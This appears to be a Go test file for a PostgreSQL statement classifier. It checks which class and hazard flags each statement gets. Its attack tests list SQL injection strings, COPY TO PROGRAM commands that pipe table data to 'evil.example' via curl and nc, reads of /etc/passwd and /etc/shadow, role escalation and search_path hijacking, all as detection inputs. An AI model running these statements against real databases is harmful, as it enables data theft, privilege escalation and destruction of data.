//go:build cgo

package sqlclass

import (
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// trueHazards names the hazards set in h, leaving out
// SearchPathDependent (most statements name a table without a schema;
// TestSearchPathDependent covers it).
func trueHazards(h Hazards) []string {
	var names []string
	v := reflect.ValueOf(h)
	for i := 0; i < v.NumField(); i++ {
		name := v.Type().Field(i).Name
		if v.Field(i).Bool() && name != "SearchPathDependent" {
			names = append(names, name)
		}
	}
	return names
}

type classCase struct {
	name    string
	sql     string
	class   Class
	hazards []string
}

func runClassCases(t *testing.T, cases []classCase) {
	t.Helper()
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			facts, err := Classify(tt.sql)
			if err != nil && facts.Class != ClassUnknown {
				t.Fatalf("error %v with class %s; an error must come with unknown", err, facts.Class)
			}
			if facts.Class != tt.class {
				t.Errorf("Classify(%q).Class = %s, want %s (statements %+v)", tt.sql, facts.Class, tt.class, facts.Statements)
			}
			want := slices.Clone(tt.hazards)
			slices.Sort(want)
			got := trueHazards(facts.Hazards)
			slices.Sort(got)
			if !slices.Equal(got, want) {
				t.Errorf("Classify(%q) hazards = %v, want %v", tt.sql, got, want)
			}
		})
	}
}

// TestClassifyClasses covers every class with the statements that make it.
func TestClassifyClasses(t *testing.T) {
	runClassCases(t, []classCase{
		{"read/select", "SELECT id, name FROM accounts WHERE id = 1", ClassRead, nil},
		{"read/select-constant", "SELECT 1", ClassRead, nil},
		{"read/table", "TABLE customers", ClassRead, nil},
		{"read/values", "VALUES (1, 'a')", ClassRead, nil},
		{"read/union", "SELECT a FROM t UNION ALL SELECT b FROM u", ClassRead, nil},
		{"read/safe-functions", "SELECT count(*), lower(name), now(), coalesce(a, 0), pg_catalog.upper(b) FROM t GROUP BY 2, 4, 5", ClassRead, nil},
		{"read/copy-to-stdout", "COPY customers TO STDOUT", ClassRead, nil},
		{"read/copy-query-to-stdout", "COPY (SELECT id FROM t) TO STDOUT WITH (FORMAT csv)", ClassRead, nil},
		{"read/fetch", "FETCH 10 FROM c", ClassRead, nil},
		{"read/declare-cursor", "DECLARE c CURSOR FOR SELECT * FROM t", ClassRead, nil},
		{"read/explain-analyze-select", "EXPLAIN ANALYZE SELECT * FROM t", ClassRead, nil},
		{"read/prepare-select", "PREPARE q(int) AS SELECT * FROM t WHERE id = $1", ClassRead, nil},
		{"write/insert", "INSERT INTO t (a, b) VALUES (1, 2)", ClassWrite, nil},
		{"write/insert-select", "INSERT INTO t SELECT * FROM u", ClassWrite, nil},
		{"write/upsert", "INSERT INTO t (id, a) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = excluded.a", ClassWrite, nil},
		{"write/update", "UPDATE t SET a = a + 1 WHERE id = 7", ClassWrite, nil},
		{"write/delete", "DELETE FROM t WHERE id = 7", ClassWrite, nil},
		{"write/merge", "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = u.a", ClassWrite, nil},
		{"write/copy-from-stdin", "COPY t (a, b) FROM STDIN", ClassWrite, nil},
		{"write/truncate", "TRUNCATE t", ClassWrite, []string{"Destructive", "NoWhere"}},
		{"write/lock-table", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", ClassWrite, []string{"Locks"}},
		{"write/select-for-update", "SELECT * FROM t WHERE id = 1 FOR UPDATE", ClassWrite, []string{"Locks"}},
		{"write/select-for-key-share", "SELECT * FROM t FOR KEY SHARE OF t NOWAIT", ClassWrite, []string{"Locks"}},
		{"write/nextval", "SELECT nextval('s')", ClassWrite, nil},
		{"write/setval-qualified", "SELECT pg_catalog.setval('s', 1)", ClassWrite, nil},
		{"ddl/create-table", "CREATE TABLE t (id int PRIMARY KEY, a text)", ClassDDL, nil},
		{"ddl/alter-table", "ALTER TABLE t ADD COLUMN b int", ClassDDL, nil},
		{"ddl/drop-table", "DROP TABLE t", ClassDDL, []string{"Destructive"}},
		{"ddl/drop-index", "DROP INDEX CONCURRENTLY i", ClassDDL, []string{"Destructive"}},
		{"ddl/create-index", "CREATE INDEX ON t (a)", ClassDDL, nil},
		{"ddl/create-view", "CREATE VIEW v AS SELECT a FROM t", ClassDDL, nil},
		{"ddl/create-table-as", "CREATE TABLE copy AS SELECT * FROM t", ClassDDL, nil},
		{"ddl/select-into", "SELECT * INTO newtable FROM t", ClassDDL, nil},
		{"ddl/create-matview", "CREATE MATERIALIZED VIEW m AS SELECT * FROM t", ClassDDL, nil},
		{"ddl/refresh-matview", "REFRESH MATERIALIZED VIEW m", ClassDDL, nil},
		{"ddl/comment", "COMMENT ON TABLE t IS 'x'", ClassDDL, nil},
		{"ddl/create-function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", ClassDDL, []string{"DefinesCode"}},
		{"ddl/create-extension", "CREATE EXTENSION dblink", ClassDDL, []string{"DefinesCode"}},
		{"ddl/rename", "ALTER TABLE t RENAME TO u", ClassDDL, nil},
		{"ddl/drop-database", "DROP DATABASE prod", ClassDDL, []string{"Destructive"}},
		{"privilege/grant", "GRANT SELECT ON customers TO bob", ClassPrivilege, nil},
		{"privilege/revoke", "REVOKE ALL ON customers FROM bob", ClassPrivilege, nil},
		{"privilege/grant-role", "GRANT admin TO bob", ClassPrivilege, nil},
		{"privilege/create-role", "CREATE ROLE eve LOGIN SUPERUSER", ClassPrivilege, nil},
		{"privilege/alter-role", "ALTER ROLE bob SUPERUSER", ClassPrivilege, nil},
		{"privilege/alter-user-password", "ALTER USER bob PASSWORD 'x'", ClassPrivilege, nil},
		{"privilege/drop-role", "DROP ROLE bob", ClassPrivilege, []string{"Destructive"}},
		{"privilege/default-privileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", ClassPrivilege, nil},
		{"privilege/owner", "ALTER TABLE t OWNER TO eve", ClassPrivilege, nil},
		{"privilege/disable-rls", "ALTER TABLE t DISABLE ROW LEVEL SECURITY", ClassPrivilege, nil},
		{"privilege/create-policy", "CREATE POLICY p ON t USING (true)", ClassPrivilege, nil},
		{"privilege/drop-policy", "DROP POLICY p ON t", ClassPrivilege, []string{"Destructive"}},
		{"privilege/alter-system", "ALTER SYSTEM SET log_statement = 'none'", ClassPrivilege, nil},
		{"privilege/security-definer", "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", ClassPrivilege, []string{"DefinesCode"}},
		{"privilege/session-replication-role", "SET session_replication_role = replica", ClassPrivilege, nil},
		{"privilege/terminate-backend", "SELECT pg_terminate_backend(1)", ClassPrivilege, nil},
		{"privilege/read-file", "SELECT pg_read_file('/etc/passwd')", ClassPrivilege, []string{"ServerFile"}},
		{"privilege/lo-import", "SELECT lo_import('/etc/passwd')", ClassPrivilege, []string{"ServerFile"}},
		{"privilege/copy-to-file", "COPY t TO '/tmp/out'", ClassPrivilege, []string{"ServerFile"}},
		{"privilege/copy-program", "COPY t TO PROGRAM 'gzip > /tmp/t.gz'", ClassPrivilege, []string{"CopyProgram"}},
		{"session/begin", "BEGIN", ClassSession, nil},
		{"session/start-transaction", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", ClassSession, nil},
		{"session/commit", "COMMIT", ClassSession, nil},
		{"session/rollback", "ROLLBACK", ClassSession, nil},
		{"session/savepoint", "SAVEPOINT a", ClassSession, nil},
		{"session/rollback-to", "ROLLBACK TO SAVEPOINT a", ClassSession, nil},
		{"session/set-timeout", "SET statement_timeout = '5s'", ClassSession, nil},
		{"session/show", "SHOW search_path", ClassSession, nil},
		{"session/deallocate", "DEALLOCATE ALL", ClassSession, nil},
		{"session/discard-plans", "DISCARD PLANS", ClassSession, nil},
		{"session/close", "CLOSE c", ClassSession, nil},
		{"session/empty", "", ClassSession, nil},
		{"session/only-comments", "/* nothing */ -- at all\n ; ;", ClassSession, nil},
		{"utility/vacuum", "VACUUM (VERBOSE) t", ClassUtility, nil},
		{"utility/analyze", "ANALYZE t", ClassUtility, nil},
		{"utility/cluster", "CLUSTER t USING i", ClassUtility, nil},
		{"utility/reindex", "REINDEX TABLE t", ClassUtility, nil},
		{"utility/checkpoint", "CHECKPOINT", ClassUtility, nil},
		{"utility/listen", "LISTEN jobs", ClassUtility, nil},
		{"utility/unlisten", "UNLISTEN *", ClassUtility, nil},
		{"utility/notify", "NOTIFY jobs, 'run'", ClassUtility, nil},
		{"utility/pg-notify", "SELECT pg_notify('jobs', 'run')", ClassUtility, nil},
		{"utility/explain", "EXPLAIN SELECT * FROM t", ClassUtility, nil},
		{"utility/advisory-lock", "SELECT pg_advisory_lock(1)", ClassUtility, []string{"Locks"}},
		{"unknown/do", "DO $$BEGIN RAISE NOTICE 'hi'; END$$", ClassUnknown, []string{"DoBlock"}},
		{"unknown/call", "CALL proc()", ClassUnknown, []string{"UnknownFunction"}},
		{"unknown/load", "LOAD 'auto_explain'", ClassUnknown, nil},
		{"unknown/user-function", "SELECT my_func(1)", ClassUnknown, []string{"UnknownFunction"}},
		{"unknown/execute-unseen", "EXECUTE p(1)", ClassUnknown, nil},
		{"unknown/syntax-error", "SELEC 1", ClassUnknown, nil},
		{"unknown/unterminated-string", "SELECT 'abc", ClassUnknown, nil},
	})
}

// TestClassifyAttacks performs the attack list, and more of each
// kind, as classifier inputs: each must come out as what the server
// would run, never as a weaker class.
func TestClassifyAttacks(t *testing.T) {
	runClassCases(t, []classCase{
		// Several statements in one string: the most sensitive counts.
		{"multi/select-then-drop", "SELECT 1; DROP TABLE t", ClassDDL, []string{"Destructive", "MultiStatement"}},
		{"multi/no-space", "SELECT 1;DROP TABLE t--", ClassDDL, []string{"Destructive", "MultiStatement"}},
		{"multi/read-then-grant", "SELECT * FROM t; GRANT ALL ON t TO PUBLIC", ClassPrivilege, []string{"MultiStatement"}},
		{"multi/begin-delete-commit", "BEGIN; DELETE FROM t; COMMIT", ClassWrite, []string{"MultiStatement", "NoWhere"}},
		{"multi/unparsable-tail", "SELECT 1; DROP TABLE", ClassUnknown, nil},
		// Comments and quoting: what they hide stays hidden, as it is
		// from the server; what they do not hide is seen.
		{"quote/dollar-hides-drop", "SELECT $$; DROP TABLE t; $$", ClassRead, nil},
		{"quote/tagged-dollar", "SELECT $x$ $$; DROP TABLE t; $$ $x$", ClassRead, nil},
		{"quote/dollar-then-drop", "SELECT $$x$$; DROP TABLE t", ClassDDL, []string{"Destructive", "MultiStatement"}},
		{"quote/escape-string", `SELECT E'\'; DROP TABLE t; --'`, ClassRead, nil},
		{"quote/standard-string-backslash", `SELECT '\'; DROP TABLE t; --'`, ClassDDL, []string{"Destructive", "MultiStatement"}},
		{"quote/identifier", `SELECT 1 AS "; DROP TABLE t; --"`, ClassRead, nil},
		{"comment/block-before", "/* DROP TABLE t */ SELECT 1", ClassRead, nil},
		{"comment/block-with-semicolon", "SELECT 1 /* ; */; DROP TABLE t", ClassDDL, []string{"Destructive", "MultiStatement"}},
		{"comment/nested-hides-drop", "/* outer /* inner */ DROP TABLE t; */ SELECT 1", ClassRead, nil},
		{"comment/nested-closed", "/* outer /* inner */ */ DROP TABLE t", ClassDDL, []string{"Destructive"}},
		{"comment/line-before", "-- harmless\nDROP TABLE t", ClassDDL, []string{"Destructive"}},
		{"comment/line-hides", "SELECT 1 -- ; DROP TABLE t", ClassRead, nil},
		{"comment/keyword-split", "DR/**/OP TABLE t", ClassUnknown, nil},
		// Text the server reads differently from the parser.
		{"text/nul-byte", "SELECT 1\x00; DROP TABLE t", ClassUnknown, nil},
		{"text/invalid-utf8", "SELECT '\xff'; DROP TABLE t", ClassUnknown, nil},
		{"text/standard-strings-off", "SET standard_conforming_strings = off", ClassSession, []string{"Lexing"}},
		{"text/client-encoding", "SET client_encoding = 'SJIS'", ClassSession, []string{"Lexing"}},
		{"text/set-names", "SET NAMES 'GBK'", ClassSession, []string{"Lexing"}},
		{"text/reset-all", "RESET ALL", ClassSession, []string{"SearchPath", "Lexing"}},
		// COPY with a program or a server file.
		{"copy/to-program", "COPY t TO PROGRAM 'curl -d @- https://evil.example'", ClassPrivilege, []string{"CopyProgram"}},
		{"copy/from-program", "COPY t FROM PROGRAM 'id'", ClassPrivilege, []string{"CopyProgram"}},
		{"copy/query-to-program", "COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 1'", ClassPrivilege, []string{"CopyProgram"}},
		{"copy/from-file", "COPY t FROM '/etc/passwd'", ClassPrivilege, []string{"ServerFile"}},
		{"copy/delete-returning", "COPY (DELETE FROM t RETURNING *) TO STDOUT", ClassWrite, []string{"NoWhere"}},
		// Becoming someone else.
		{"role/set-role", "SET ROLE admin", ClassSession, []string{"SetRole"}},
		{"role/set-local-role", "SET LOCAL ROLE admin", ClassSession, []string{"SetRole"}},
		{"role/set-role-none", "SET ROLE NONE", ClassSession, []string{"SetRole"}},
		{"role/reset-role", "RESET ROLE", ClassSession, []string{"SetRole"}},
		{"role/session-authorization", "SET SESSION AUTHORIZATION postgres", ClassSession, []string{"SetRole"}},
		{"role/reset-session-authorization", "RESET SESSION AUTHORIZATION", ClassSession, []string{"SetRole"}},
		{"role/set-config", "SELECT set_config('role', 'admin', false)", ClassRead, []string{"SetRole"}},
		{"role/set-config-quoted-case", "SELECT pg_catalog.set_config('Role'::text, 'admin', true)", ClassRead, []string{"SetRole"}},
		{"role/set-config-computed-name", "SELECT set_config(name, 'x', false) FROM t", ClassUnknown, []string{"SetRole", "SearchPath", "Lexing"}},
		{"role/discard-all", "DISCARD ALL", ClassSession, []string{"SetRole", "SearchPath"}},
		{"role/then-read", "SET ROLE admin; SELECT * FROM t", ClassRead, []string{"MultiStatement", "SetRole"}},
		{"role/alter-role-set", "ALTER ROLE bob SET role = 'admin'", ClassPrivilege, []string{"SetRole"}},
		// DO blocks: code the classifier cannot see.
		{"do/dynamic-drop", "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$", ClassUnknown, []string{"DoBlock"}},
		{"do/language", "DO LANGUAGE plpgsql $x$BEGIN PERFORM 1; END$x$", ClassUnknown, []string{"DoBlock"}},
		{"do/after-select", "SELECT 1; DO $$BEGIN NULL; END$$", ClassUnknown, []string{"MultiStatement", "DoBlock"}},
		// Functions with side effects, and functions that may have them.
		{"function/terminate-backend", "SELECT pg_terminate_backend(1)", ClassPrivilege, nil},
		{"function/lo-import", "SELECT lo_import('/etc/shadow')", ClassPrivilege, []string{"ServerFile"}},
		{"function/lo-export", "SELECT lo_export(1, '/tmp/x')", ClassPrivilege, []string{"ServerFile"}},
		{"function/dblink-exec", "SELECT dblink_exec('dbname=prod', 'DROP TABLE t')", ClassUnknown, []string{"UnknownFunction"}},
		{"function/dblink-in-from", "SELECT * FROM dblink('dbname=prod', 'DELETE FROM t RETURNING 1') AS x(a int)", ClassUnknown, []string{"UnknownFunction"}},
		{"function/nextval", "SELECT nextval('s')", ClassWrite, nil},
		{"function/nextval-upper-case", "SELECT NEXTVAL('s')", ClassWrite, nil},
		{"function/shadowed-builtin", "SELECT evil.lower('x')", ClassUnknown, []string{"UnknownFunction"}},
		{"function/shadowed-nextval", "SELECT evil.nextval('s')", ClassUnknown, []string{"UnknownFunction"}},
		{"function/in-where", "SELECT * FROM t WHERE id = steal()", ClassUnknown, []string{"UnknownFunction"}},
		{"function/in-order-by", "SELECT * FROM t ORDER BY audit_log(id)", ClassUnknown, []string{"UnknownFunction"}},
		{"function/in-default", "CREATE TABLE t (a int DEFAULT side_effect())", ClassUnknown, []string{"UnknownFunction"}},
		{"function/query-to-xml", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", ClassUnknown, []string{"UnknownFunction"}},
		{"function/user-operator", "SELECT 1 OPERATOR(evil.+) 2", ClassUnknown, []string{"UnknownFunction"}},
		{"function/unknown-operator", "SELECT a <=> b FROM t", ClassUnknown, []string{"UnknownFunction"}},
		{"function/explain-folds", "EXPLAIN SELECT f(1)", ClassUnknown, []string{"UnknownFunction"}},
		{"function/sleep", "SELECT pg_sleep(1)", ClassUtility, nil},
		{"function/between-is-builtin", "SELECT * FROM t WHERE a BETWEEN 1 AND 2 AND b NOT BETWEEN SYMMETRIC 3 AND 4", ClassRead, nil},
		{"function/like-in-any-builtin", "SELECT * FROM t WHERE a LIKE 'x%' AND b IN (1, 2) AND c = ANY ('{1}') AND d IS DISTINCT FROM 1 AND NULLIF(e, 1) IS NULL", ClassRead, nil},
		{"function/sublink-operator", "SELECT * FROM t WHERE a OPERATOR(evil.=) ANY (SELECT 1)", ClassUnknown, []string{"UnknownFunction"}},
		{"function/order-by-using", "SELECT * FROM t ORDER BY a USING OPERATOR(evil.<)", ClassUnknown, []string{"UnknownFunction"}},
		{"function/order-by-using-builtin", "SELECT * FROM t ORDER BY a USING <", ClassRead, nil},
		{"function/tablesample-builtin", "SELECT * FROM t TABLESAMPLE bernoulli (10)", ClassRead, nil},
		{"function/tablesample-custom", "SELECT * FROM t TABLESAMPLE evil_method (10)", ClassUnknown, []string{"UnknownFunction"}},
		{"function/set-config-named-args", "SELECT set_config(new_value => 'admin', setting_name => 'role', is_local => false)", ClassUnknown, []string{"SetRole", "SearchPath", "Lexing"}},
		{"function/set-config-concatenated-name", "SELECT set_config('ro' || 'le', 'admin', false)", ClassUnknown, []string{"SetRole", "SearchPath", "Lexing"}},
		// Writes hidden in reads.
		{"cte/delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", ClassWrite, []string{"HiddenWrite", "NoWhere"}},
		{"cte/update-where", "WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT count(*) FROM u", ClassWrite, []string{"HiddenWrite"}},
		{"cte/insert-second", "WITH x AS (SELECT 1), i AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM x", ClassWrite, []string{"HiddenWrite"}},
		{"cte/in-insert", "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM d", ClassWrite, []string{"HiddenWrite"}},
		{"cte/recursive", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), d AS (DELETE FROM t WHERE id IN (SELECT n FROM r) RETURNING 1) SELECT 1", ClassWrite, []string{"HiddenWrite"}},
		{"cte/in-explain-analyze", "EXPLAIN ANALYZE WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", ClassWrite, []string{"HiddenWrite"}},
		{"cte/in-create-table-as", "CREATE TABLE x AS WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", ClassDDL, []string{"HiddenWrite"}},
		// No WHERE, or a WHERE that selects every row.
		{"nowhere/update", "UPDATE accounts SET balance = 0", ClassWrite, []string{"NoWhere"}},
		{"nowhere/delete", "DELETE FROM accounts", ClassWrite, []string{"NoWhere"}},
		{"nowhere/where-true", "DELETE FROM accounts WHERE true", ClassWrite, []string{"NoWhere"}},
		{"nowhere/where-1-1", "UPDATE accounts SET balance = 0 WHERE 1 = 1", ClassWrite, []string{"NoWhere"}},
		{"nowhere/where-exists-constant", "DELETE FROM accounts WHERE EXISTS (SELECT 1)", ClassWrite, []string{"NoWhere"}},
		{"nowhere/where-not-false", "DELETE FROM accounts WHERE NOT false OR 'a' = 'a'", ClassWrite, []string{"NoWhere"}},
		{"nowhere/where-column", "DELETE FROM accounts WHERE id = 5", ClassWrite, nil},
		{"nowhere/where-qualified", "DELETE FROM accounts a WHERE a.id = 5", ClassWrite, nil},
		{"nowhere/where-schema-qualified", "DELETE FROM bank.accounts WHERE bank.accounts.id = 5", ClassWrite, nil},
		{"nowhere/where-correlated", "DELETE FROM accounts a WHERE EXISTS (SELECT 1 FROM closed c WHERE c.id = a.id)", ClassWrite, nil},
		{"nowhere/where-other-table-only", "UPDATE accounts SET balance = 0 FROM settings s WHERE s.name = 'x'", ClassWrite, []string{"NoWhere"}},
		{"nowhere/where-uncorrelated-subquery", "DELETE FROM accounts WHERE EXISTS (SELECT 1 FROM closed c WHERE c.id = 1)", ClassWrite, []string{"NoWhere"}},
		{"nowhere/where-current-of", "UPDATE accounts SET balance = 0 WHERE CURRENT OF c", ClassWrite, nil},
		{"nowhere/using", "DELETE FROM accounts a USING closed c WHERE a.id = c.id", ClassWrite, nil},
		// search_path: the change is flagged and later names distrusted.
		{"path/set-then-builtin", "SET search_path = evil, public; SELECT lower(name) FROM customers", ClassUnknown, []string{"MultiStatement", "SearchPath", "UnknownFunction"}},
		{"path/set-then-operator", "SET search_path = evil, pg_catalog; SELECT * FROM t WHERE a = 1", ClassUnknown, []string{"MultiStatement", "SearchPath", "UnknownFunction"}},
		{"path/set-then-qualified", "SET search_path = evil; SELECT pg_catalog.lower(name) FROM public.customers", ClassRead, []string{"MultiStatement", "SearchPath"}},
		{"path/set-schema", "SET SCHEMA 'evil'", ClassSession, []string{"SearchPath"}},
		{"path/set-local", "SET LOCAL search_path TO evil", ClassSession, []string{"SearchPath"}},
		{"path/set-config", "SELECT set_config('search_path', 'evil, public', false)", ClassRead, []string{"SearchPath"}},
		{"path/set-config-then-builtin", "SELECT set_config('search_path', 'evil', false); SELECT upper('x')", ClassUnknown, []string{"MultiStatement", "SearchPath", "UnknownFunction"}},
		{"path/alter-role", "ALTER ROLE bob SET search_path = evil", ClassPrivilege, []string{"SearchPath"}},
		{"path/alter-database", "ALTER DATABASE prod SET search_path = evil", ClassPrivilege, []string{"SearchPath"}},
		{"path/alter-function", "ALTER FUNCTION f() SET search_path = evil", ClassDDL, []string{"SearchPath"}},
		// EXPLAIN ANALYZE runs its statement.
		{"explain/analyze-delete", "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", ClassWrite, nil},
		{"explain/analyze-option", "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1", ClassWrite, []string{"NoWhere"}},
		{"explain/analyze-true", "EXPLAIN (ANALYZE true) DELETE FROM t WHERE id = 1", ClassWrite, nil},
		{"explain/analyze-on-string", "EXPLAIN (ANALYZE 'on') DELETE FROM t WHERE id = 1", ClassWrite, nil},
		{"explain/analyze-1", "EXPLAIN (ANALYZE 1) DELETE FROM t WHERE id = 1", ClassWrite, nil},
		{"explain/analyze-off", "EXPLAIN (ANALYZE off) DELETE FROM t", ClassUtility, nil},
		{"explain/analyze-false-then-true", "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t WHERE id = 1", ClassWrite, nil},
		{"explain/analyse-spelling", "EXPLAIN ANALYSE DELETE FROM t WHERE id = 1", ClassWrite, nil},
		{"explain/analyse-option-spelling", "EXPLAIN (ANALYSE) DELETE FROM t WHERE id = 1", ClassWrite, nil},
		{"explain/analyze-quoted-true", `EXPLAIN (ANALYZE "true") DELETE FROM t WHERE id = 1`, ClassWrite, nil},
		{"explain/analyze-execute", "EXPLAIN ANALYZE EXECUTE p", ClassUnknown, nil},
		{"explain/plain-delete", "EXPLAIN DELETE FROM t", ClassUtility, nil},
		{"explain/analyze-drop-via-ctas", "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", ClassDDL, nil},
		// Statements that create tables are never reads.
		{"create/table-as", "CREATE TABLE stolen AS SELECT * FROM customers", ClassDDL, nil},
		{"create/select-into", "SELECT * INTO stolen FROM customers", ClassDDL, nil},
		{"create/select-into-temp", "SELECT ssn INTO TEMP t2 FROM customers", ClassDDL, nil},
		// Locks.
		{"lock/for-update", "SELECT * FROM accounts FOR UPDATE", ClassWrite, []string{"Locks"}},
		{"lock/for-share-in-subquery", "SELECT * FROM (SELECT * FROM accounts FOR SHARE) a", ClassWrite, []string{"Locks"}},
		// Prepared statements take the class of what they prepare.
		{"prepare/delete", "PREPARE p AS DELETE FROM t", ClassWrite, []string{"NoWhere"}},
		{"prepare/ddl-refused-by-grammar", "PREPARE p AS DROP TABLE t; EXECUTE p", ClassUnknown, nil},
		{"prepare/execute-write", "PREPARE p AS UPDATE t SET a = 1 WHERE id = $1; EXECUTE p(1)", ClassWrite, []string{"MultiStatement"}},
		{"prepare/execute-other-name", "PREPARE p AS SELECT 1; EXECUTE q", ClassUnknown, []string{"MultiStatement"}},
		{"prepare/execute-side-effect-param", "PREPARE p(int) AS SELECT $1; EXECUTE p(nextval('s'))", ClassWrite, []string{"MultiStatement"}},
		// Procedures.
		{"call/procedure", "CALL transfer(1, 2, 100)", ClassUnknown, []string{"UnknownFunction"}},
		{"call/qualified", "CALL pg_catalog.lower('x')", ClassUnknown, []string{"UnknownFunction"}},
		// Transaction control is the session's.
		{"tx/commit-prepared", "COMMIT PREPARED 'x'", ClassSession, nil},
		{"tx/set-transaction", "SET TRANSACTION READ WRITE", ClassSession, nil},
		// LISTEN/NOTIFY and VACUUM are utilities.
		{"utility/listen-notify", "LISTEN ch; NOTIFY ch, 'x'", ClassUtility, []string{"MultiStatement"}},
		{"utility/vacuum-full", "VACUUM FULL customers", ClassUtility, nil},
		// Privilege changes.
		{"privilege/grant-all", "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC", ClassPrivilege, nil},
		{"privilege/revoke-role", "REVOKE admin FROM bob", ClassPrivilege, nil},
		{"privilege/alter-role-superuser", "ALTER ROLE bob WITH SUPERUSER", ClassPrivilege, nil},
		{"privilege/reassign-owned", "REASSIGN OWNED BY bob TO eve", ClassPrivilege, nil},
		{"privilege/drop-owned", "DROP OWNED BY bob CASCADE", ClassPrivilege, []string{"Destructive"}},
	})
}

// TestClassifyStatements checks the per-statement facts of a string of
// several statements.
func TestClassifyStatements(t *testing.T) {
	facts, err := Classify("BEGIN; SELECT a FROM s.t; UPDATE u SET b = 1 WHERE id = 2; DROP TABLE v; COMMIT")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, st := range facts.Statements {
		got = append(got, st.Command+":"+st.Class.String())
	}
	want := []string{"BEGIN:session", "SELECT:read", "UPDATE:write", "DROP TABLE:ddl", "COMMIT:session"}
	if !slices.Equal(got, want) {
		t.Errorf("statements = %v, want %v", got, want)
	}
	if facts.Class != ClassDDL || !facts.MultiStatement {
		t.Errorf("overall = %s multi=%v, want ddl and multi-statement", facts.Class, facts.MultiStatement)
	}
	for i, st := range facts.Statements {
		if st.Fingerprint == "" || st.Normalized == "" {
			t.Errorf("statement %d has no fingerprint or normalized text: %+v", i, st)
		}
	}
	if facts.Statements[2].Normalized != "UPDATE u SET b = $1 WHERE id = $2" {
		t.Errorf("statement 3 normalized = %q", facts.Statements[2].Normalized)
	}
}

func tableNames(ts []Table) []string {
	var out []string
	for _, t := range ts {
		s := t.String()
		if t.Unqualified {
			s += "?"
		}
		if t.Written {
			s += "!"
		}
		out = append(out, s)
	}
	return out
}

func columnNames(cs []Column) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.String())
	}
	return out
}

// TestClassifyTablesAndColumns checks what a statement touches: tables
// (schema-qualified or flagged "?" as search_path-dependent, "!" when
// written) and columns resolved through aliases, CTEs and subqueries.
func TestClassifyTablesAndColumns(t *testing.T) {
	tests := []struct {
		name, sql       string
		tables, columns []string
		functions       []string
	}{
		{"ok/alias-join", "SELECT c.name, o.total FROM public.customers c JOIN orders o ON o.cid = c.id WHERE c.ssn = '1'",
			[]string{"orders?", "public.customers"}, []string{"orders.cid", "orders.total", "public.customers.id", "public.customers.name", "public.customers.ssn"}, nil},
		{"ok/single-table-unqualified-column", "SELECT ssn FROM customers WHERE id = 1",
			[]string{"customers?"}, []string{"customers.id", "customers.ssn"}, nil},
		{"ok/self-join-unqualified-column", "SELECT ssn FROM customers a JOIN customers b ON a.id = b.ref",
			[]string{"customers?"}, []string{"customers.id", "customers.ref", "customers.ssn"}, nil},
		{"ok/two-tables-unqualified-column", "SELECT ssn FROM customers, orders",
			[]string{"customers?", "orders?"}, []string{"ssn"}, nil},
		{"ok/star", "SELECT * FROM customers",
			[]string{"customers?"}, []string{"customers.*"}, nil},
		{"ok/qualified-star", "SELECT c.* FROM customers c JOIN orders o ON true",
			[]string{"customers?", "orders?"}, []string{"customers.*"}, nil},
		{"ok/whole-row", "SELECT row_to_json(c) FROM customers c",
			[]string{"customers?"}, []string{"customers.*", "customers.c"}, []string{"row_to_json"}},
		{"ok/table-name-qualifier", "SELECT customers.ssn FROM customers",
			[]string{"customers?"}, []string{"customers.ssn"}, nil},
		{"ok/schema-table-column", "SELECT public.customers.ssn FROM public.customers",
			[]string{"public.customers"}, []string{"public.customers.ssn"}, nil},
		{"ok/cte-body-resolved", "WITH x AS (SELECT ssn FROM customers) SELECT ssn FROM x",
			[]string{"customers?"}, []string{"ssn", "customers.ssn"}, nil},
		{"ok/cte-shadowing-table-reads-table", "WITH customers AS (SELECT * FROM customers) SELECT ssn FROM customers",
			[]string{"customers?"}, []string{"ssn", "customers.*"}, nil},
		{"ok/subquery", "SELECT x.ssn FROM (SELECT * FROM customers) x",
			[]string{"customers?"}, []string{"ssn", "customers.*"}, nil},
		{"ok/correlated-subquery", "SELECT (SELECT ssn FROM orders o WHERE o.cid = c.id) FROM customers c",
			[]string{"customers?", "orders?"}, []string{"ssn", "customers.id", "orders.cid"}, nil},
		{"ok/update", "UPDATE customers SET email = 'x' WHERE id = 1 RETURNING ssn",
			[]string{"customers?!"}, []string{"customers.email", "customers.id", "customers.ssn"}, nil},
		{"ok/insert-columns", "INSERT INTO customers (name, ssn) VALUES ('a', 'b')",
			[]string{"customers?!"}, []string{"customers.name", "customers.ssn"}, nil},
		{"ok/upsert-excluded", "INSERT INTO customers (id, email) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET email = excluded.email RETURNING id",
			[]string{"customers?!"}, []string{"customers.email", "customers.id"}, nil},
		{"ok/insert-no-columns", "INSERT INTO customers VALUES (1)",
			[]string{"customers?!"}, []string{"customers.*"}, nil},
		{"ok/delete", "DELETE FROM customers WHERE id = 1",
			[]string{"customers?!"}, []string{"customers.*", "customers.id"}, nil},
